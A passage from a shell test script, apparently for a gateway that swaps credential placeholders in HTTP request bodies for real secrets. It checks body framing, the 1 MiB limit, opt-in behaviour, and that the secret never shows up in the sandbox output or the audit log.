        print(h["body_len"], h.get("body", ""), h["headers"].get("Content-Length"), h["headers"].get("Transfer-Encoding"), h["headers"].get("Expect"))' "$T/upstream.log" "$1"
}
n=${#real}
expect_eq "a form body: every placeholder replaced, sent with its new length" \
    "$((13 + 2 * n)) token=$real&again=$real $((13 + 2 * n)) None None" "$(body_of /v1/form)"
expect_eq "a chunked body: de-chunked, replaced, sent with a Content-Length" \
    "$((12 + n)) {\"token\":\"$real\"} $((12 + n)) None None" "$(body_of /v1/chunked)"
expect_eq "Expect: 100-continue: the gateway answers 100 itself, the body is replaced" \
    "$((2 + n)) t=$real $((2 + n)) None None" "$(body_of /v1/expect)"
expect_match "a credential without replace_in_body: its placeholder stays in the body" \
    '^[0-9]+ token=pdk-ph-' "$(body_of /v1/not-opted-in)"
expect_eq "a body without a placeholder goes as it came" \
    "19 no placeholder here 19 None None" "$(body_of /v1/plain)"
expect_eq "... a body over 1 MiB is refused (413), whatever its framing, and never sent" "" \
    "$(body_of /v1/big)$(body_of /v1/bigchunked)"
expect_no_match "... and the value is nowhere in what the sandbox saw" "$real" "$OUT$ERR"
pdk audit --json
expect_match "a replacement in a body is recorded as a use" '"kind":"credential.used".*"in":"body"' "$OUT"
expect_no_match "... and the value is nowhere in the audit log" "$real" "$OUT"
